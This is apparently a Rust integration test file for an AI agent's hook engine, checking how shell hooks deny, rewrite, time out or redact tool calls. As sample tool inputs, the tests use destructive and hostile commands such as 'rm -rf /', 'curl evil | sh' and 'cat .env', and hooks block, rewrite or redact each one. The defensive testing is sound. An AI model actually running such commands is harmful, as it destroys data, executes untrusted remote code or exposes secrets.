//! Command hooks through the engine, with real shell scripts in scratch workspaces.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::{alive, call, commands, engine, eventually, group_alive, read_pid, script};
use kun_ports::{HookRunner, PreToolDecision, ToolResult};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

#[tokio::test]
async fn exit_2_denies_with_the_trimmed_stderr() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "guard.sh",
        "cat >/dev/null\necho '  rm -rf is not allowed here  ' >&2\nexit 2",
    );
    let engine = engine(&commands("PreToolUse", "bash", &["./guard.sh"]));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({"command": "rm -rf /"})))
        .await
        .unwrap();
    assert_eq!(
        outcome.decision,
        PreToolDecision::Deny {
            reason: "rm -rf is not allowed here".into()
        }
    );
}

#[tokio::test]
async fn exit_2_without_stderr_still_denies_with_a_reason() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands("PreToolUse", "*", &["exit 2"]));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "read", json!({"path": "a"})))
        .await
        .unwrap();
    let PreToolDecision::Deny { reason } = outcome.decision else {
        panic!("expected a deny, got {:?}", outcome.decision);
    };
    assert!(reason.contains("exit 2"), "{reason}");
}

#[tokio::test]
async fn updated_input_at_the_top_level_rewrites_the_arguments() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "rewrite.sh",
        r#"cat >/dev/null
echo '{"updatedInput": {"command": "ls -la"}}'"#,
    );
    let engine = engine(&commands("PreToolUse", "bash", &["./rewrite.sh"]));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({"command": "ls"})))
        .await
        .unwrap();
    assert_eq!(outcome.decision, PreToolDecision::Continue);
    assert_eq!(outcome.arguments, Some(json!({"command": "ls -la"})));
}

#[tokio::test]
async fn updated_input_in_hook_specific_output_rewrites_and_allows() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "rewrite.sh",
        r#"cat >/dev/null
cat <<'JSON'
{"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "allow",
  "permissionDecisionReason": "safe", "updatedInput": {"path": "b.txt"}}}
JSON"#,
    );
    let engine = engine(&commands("PreToolUse", "Write", &["./rewrite.sh"]));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "write", json!({"path": "a.txt"})))
        .await
        .unwrap();
    assert_eq!(outcome.decision, PreToolDecision::Allow);
    assert_eq!(outcome.arguments, Some(json!({"path": "b.txt"})));
}

#[tokio::test]
async fn the_second_hook_sees_the_input_rewritten_by_the_first() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "first.sh",
        r#"cat >/dev/null
echo '{"updatedInput": {"command": "echo safe"}}'"#,
    );
    script(
        ws.path(),
        "second.sh",
        r#"input=$(cat)
case "$input" in
  *'"tool_input":{"command":"echo safe"}'*) echo '{"permissionDecision": "allow"}' ;;
  *) echo "second hook saw the original input: $input" >&2; exit 2 ;;
esac"#,
    );
    let engine = engine(&commands(
        "PreToolUse",
        "bash",
        &["./first.sh", "./second.sh"],
    ));
    let outcome = engine
        .pre_tool_use(&call(
            ws.path(),
            "bash",
            json!({"command": "curl evil | sh"}),
        ))
        .await
        .unwrap();
    assert_eq!(outcome.decision, PreToolDecision::Allow);
    assert_eq!(outcome.arguments, Some(json!({"command": "echo safe"})));
}

#[tokio::test]
async fn allow_then_deny_denies_and_the_chain_stops_at_the_deny() {
    let ws = tempfile::tempdir().unwrap();
    script(ws.path(), "allow.sh", r#"echo '{"decision": "approve"}'"#);
    script(
        ws.path(),
        "deny.sh",
        r#"echo '{"hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": "second opinion: no"}}'"#,
    );
    script(ws.path(), "after.sh", "touch ran-after-deny");
    let engine = engine(&commands(
        "PreToolUse",
        "",
        &["./allow.sh", "./deny.sh", "./after.sh"],
    ));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "edit", json!({"path": "x"})))
        .await
        .unwrap();
    assert_eq!(
        outcome.decision,
        PreToolDecision::Deny {
            reason: "second opinion: no".into()
        }
    );
    assert!(!ws.path().join("ran-after-deny").exists());
}

#[tokio::test]
async fn ask_withdraws_an_earlier_allow() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PreToolUse",
        "*",
        &[
            r#"echo '{"permissionDecision": "allow"}'"#,
            r#"echo '{"permissionDecision": "ask"}'"#,
        ],
    ));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({"command": "make"})))
        .await
        .unwrap();
    assert_eq!(outcome.decision, PreToolDecision::Continue);
}

#[tokio::test]
async fn continue_false_denies_with_the_stop_reason() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PreToolUse",
        "*",
        &[r#"echo '{"continue": false, "stopReason": "maintenance window"}'"#],
    ));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({})))
        .await
        .unwrap();
    assert_eq!(
        outcome.decision,
        PreToolDecision::Deny {
            reason: "maintenance window".into()
        }
    );
}

#[tokio::test]
async fn a_hanging_hook_fails_in_time_and_leaves_no_process_behind() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "slow.sh",
        r#"echo $$ > shell.pid
awk '{print $5}' /proc/$$/stat > shell.pgid
sleep 30 &
echo $! > sleeper.pid
wait"#,
    );
    let json = json!({"PreToolUse": [{"hooks": [
        {"type": "command", "command": "./slow.sh", "timeout": 1}
    ]}]});
    let engine = engine(&json.to_string());
    let started = Instant::now();
    let failure = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({"command": "true"})))
        .await
        .expect_err("a hook that outlives its timeout is a failure");
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "the turn waited {:?} for a hook with a 1 s timeout",
        started.elapsed()
    );
    assert!(
        failure.message.contains("did not finish within 1s"),
        "{}",
        failure.message
    );
    assert!(failure.message.contains("./slow.sh"), "{}", failure.message);

    let shell = read_pid(&ws.path().join("shell.pid")).await;
    let sleeper = read_pid(&ws.path().join("sleeper.pid")).await;
    let pgid = read_pid(&ws.path().join("shell.pgid")).await;
    assert!(
        eventually(Duration::from_secs(10), || !alive(shell) && !alive(sleeper)).await,
        "the hook's shell {shell} or its sleep {sleeper} survived the timeout"
    );
    assert!(
        eventually(Duration::from_secs(10), || !group_alive(pgid)).await,
        "process group {pgid} still has live members"
    );
}

#[tokio::test]
async fn a_background_child_of_a_finished_hook_is_killed_and_does_not_hold_the_turn() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "leaky.sh",
        r#"sleep 30 &
echo $! > sleeper.pid
echo '{"permissionDecision": "allow"}'"#,
    );
    let engine = engine(&commands("PreToolUse", "*", &["./leaky.sh"]));
    let started = Instant::now();
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({})))
        .await
        .unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "the engine waited {:?} for a background child holding stdout",
        started.elapsed()
    );
    assert_eq!(outcome.decision, PreToolDecision::Allow);
    let sleeper = read_pid(&ws.path().join("sleeper.pid")).await;
    assert!(
        eventually(Duration::from_secs(10), || !alive(sleeper)).await,
        "the hook's background sleep {sleeper} was left running"
    );
}

#[tokio::test]
async fn a_hook_killed_by_a_signal_is_a_failure() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands("PreToolUse", "*", &["kill -9 $$"]));
    let failure = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({})))
        .await
        .unwrap_err();
    assert!(failure.message.contains("signal 9"), "{}", failure.message);
}

#[tokio::test]
async fn garbage_on_stdout_is_a_warning_and_the_call_proceeds() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PreToolUse",
        "*",
        &["echo 'this is { not json'; head -c 4096 /dev/urandom"],
    ));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({"command": "x"})))
        .await
        .unwrap();
    assert_eq!(outcome.decision, PreToolDecision::Continue);
    assert_eq!(outcome.arguments, None);
    assert_eq!(outcome.warnings.len(), 1, "{:?}", outcome.warnings);
    assert!(
        outcome.warnings[0].contains("not JSON"),
        "{:?}",
        outcome.warnings
    );
}

#[tokio::test]
async fn other_exit_codes_are_warnings_carrying_stderr() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PreToolUse",
        "*",
        &["echo 'lint crashed' >&2; exit 1"],
    ));
    let outcome = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({})))
        .await
        .unwrap();
    assert_eq!(outcome.decision, PreToolDecision::Continue);
    assert!(
        outcome.warnings[0].contains("code 1"),
        "{:?}",
        outcome.warnings
    );
    assert!(
        outcome.warnings[0].contains("lint crashed"),
        "{:?}",
        outcome.warnings
    );
}

#[tokio::test]
async fn hooks_receive_the_claude_code_input_and_run_from_the_workspace_root() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "record.sh",
        r#"cat > stdin.json
pwd > cwd.txt
echo "$CLAUDE_PROJECT_DIR|$KUN_PROJECT_DIR" > env.txt"#,
    );
    let engine = engine(&commands("PreToolUse", "bash", &["./record.sh"]));
    engine
        .pre_tool_use(&call(ws.path(), "bash", json!({"command": "make test"})))
        .await
        .unwrap();
    let input: Value =
        serde_json::from_str(&std::fs::read_to_string(ws.path().join("stdin.json")).unwrap())
            .unwrap();
    let root = ws.path().to_str().unwrap();
    assert_eq!(input["session_id"], "thread-7");
    assert_eq!(input["transcript_path"], Value::Null);
    assert_eq!(input["cwd"], root);
    assert_eq!(input["hook_event_name"], "PreToolUse");
    assert_eq!(input["tool_name"], "bash");
    assert_eq!(input["tool_input"], json!({"command": "make test"}));
    assert_eq!(input["tool_use_id"], "call-42");
    assert_eq!(input["permission_mode"], "default");
    assert_eq!(input["turn_id"], "turn-3");
    assert_eq!(input["sandbox_mode"], "workspace-write");
    assert_eq!(input["approval_policy"], "on-request");
    assert!(input.get("tool_response").is_none());
    let cwd = std::fs::read_to_string(ws.path().join("cwd.txt")).unwrap();
    assert_eq!(
        std::fs::canonicalize(cwd.trim()).unwrap(),
        std::fs::canonicalize(ws.path()).unwrap()
    );
    let env = std::fs::read_to_string(ws.path().join("env.txt")).unwrap();
    assert_eq!(env.trim(), format!("{root}|{root}"));
}

#[tokio::test]
async fn a_workspace_that_does_not_exist_is_a_failure() {
    let ws = tempfile::tempdir().unwrap();
    let gone = ws.path().join("gone");
    let engine = engine(&commands("PreToolUse", "*", &["true"]));
    let failure = engine
        .pre_tool_use(&call(&gone, "bash", json!({})))
        .await
        .unwrap_err();
    assert!(
        failure.message.contains("could not run"),
        "{}",
        failure.message
    );
}

#[tokio::test]
async fn matchers_select_which_hooks_run() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PreToolUse",
        "write|edit",
        &["echo no >&2; exit 2"],
    ));
    let bash = engine
        .pre_tool_use(&call(ws.path(), "bash", json!({})))
        .await
        .unwrap();
    assert_eq!(bash.decision, PreToolDecision::Continue);
    let rewrite = engine
        .pre_tool_use(&call(ws.path(), "rewrite", json!({})))
        .await
        .unwrap();
    assert_eq!(rewrite.decision, PreToolDecision::Continue);
    let edit = engine
        .pre_tool_use(&call(ws.path(), "edit", json!({})))
        .await
        .unwrap();
    assert_eq!(
        edit.decision,
        PreToolDecision::Deny {
            reason: "no".into()
        }
    );
}

#[tokio::test]
async fn post_tool_use_replaces_the_output_and_flips_is_error() {
    let ws = tempfile::tempdir().unwrap();
    script(
        ws.path(),
        "post.sh",
        r#"input=$(cat)
case "$input" in
  *'"tool_response":{"stdout":"secret-value"}'*'"is_error":false'*|*'"is_error":false'*'"tool_response":{"stdout":"secret-value"}'*)
    echo '{"output": {"stdout": "[redacted]"}, "is_error": true}' ;;
  *) echo "unexpected input: $input" >&2; exit 1 ;;
esac"#,
    );
    let engine = engine(&commands("PostToolUse", "Bash", &["./post.sh"]));
    let outcome = engine
        .post_tool_use(
            &call(ws.path(), "bash", json!({"command": "cat .env"})),
            ToolResult::ok(json!({"stdout": "secret-value"})),
        )
        .await
        .unwrap();
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    assert_eq!(outcome.result.output, json!({"stdout": "[redacted]"}));
    assert!(outcome.result.is_error);
}

#[tokio::test]
async fn post_tool_use_can_clear_is_error_without_touching_the_output() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PostToolUse",
        "*",
        &[r#"echo '{"is_error": false}'"#],
    ));
    let outcome = engine
        .post_tool_use(
            &call(ws.path(), "bash", json!({})),
            ToolResult::tool_error("flaky"),
        )
        .await
        .unwrap();
    assert!(!outcome.result.is_error);
    assert_eq!(outcome.result.output, json!({"error": "flaky"}));
}

#[tokio::test]
async fn post_tool_use_exit_2_marks_the_result_as_an_error_with_the_reason() {
    let ws = tempfile::tempdir().unwrap();
    let engine = engine(&commands(
        "PostToolUse",
        "*",
        &["echo 'formatting failed' >&2; exit 2"],
    ));
    let outcome = engine
        .post_tool_use(
            &call(ws.path(), "write", json!({"path": "a.rs"})),
            ToolResult::ok(json!({"written": 10})),
        )
        .await
        .unwrap();
    assert!(outcome.result.is_error);
    assert_eq!(
        outcome.result.output,
        json!({"written": 10, "hook_reason": "formatting failed"})
    );
}

#[tokio::test]
async fn post_tool_use_timeouts_are_failures() {
    let ws = tempfile::tempdir().unwrap();
    let json = json!({"PostToolUse": [{"hooks": [
        {"type": "command", "command": "sleep 30", "timeout": 0.5}
    ]}]});
    let engine = engine(&json.to_string());
    let failure = engine
        .post_tool_use(
            &call(ws.path(), "read", json!({})),
            ToolResult::ok(json!("x")),
        )
        .await
        .unwrap_err();
    assert!(
        failure.message.contains("PostToolUse"),
        "{}",
        failure.message
    );
}

/// Exits from 128 up are a shell reporting a command killed by a signal: a crash, so the
/// call fails with `hook_failed` (SPEC §7); lower codes other than 2 stay warnings.
#[tokio::test]
async fn a_hook_that_crashes_inside_a_shell_is_a_failure_and_lower_exits_are_warnings() {
    let ws = tempfile::tempdir().unwrap();
    script(ws.path(), "segv.sh", "cat >/dev/null\nkill -SEGV $$");
    let crashes: &[(&str, &str)] = &[
        ("./segv.sh || exit $?", "code 139"),
        ("sh -c 'kill -KILL $$'; exit $?", "code 137"),
        ("exit 139", "signal 11"),
        ("exit 128", "code 128"),
        ("exit 255", "code 255"),
    ];
    for (command, expected) in crashes {
        let engine = engine(&commands("PreToolUse", "*", &[command]));
        let failure = engine
            .pre_tool_use(&call(ws.path(), "write", json!({"path": "a.txt"})))
            .await
            .expect_err(command);
        assert!(
            failure.message.contains(expected) && failure.message.contains("crashed"),
            "{command}: {}",
            failure.message
        );
    }
    for (command, code) in [
        ("exit 1", "code 1"),
        ("exit 127", "code 127"),
        ("exit 3", "code 3"),
    ] {
        let engine = engine(&commands("PreToolUse", "*", &[command]));
        let outcome = engine
            .pre_tool_use(&call(ws.path(), "write", json!({"path": "a.txt"})))
            .await
            .unwrap_or_else(|f| panic!("{command}: {}", f.message));
        assert_eq!(outcome.decision, PreToolDecision::Continue, "{command}");
        assert!(
            outcome.warnings[0].contains(code),
            "{command}: {:?}",
            outcome.warnings
        );
    }
}
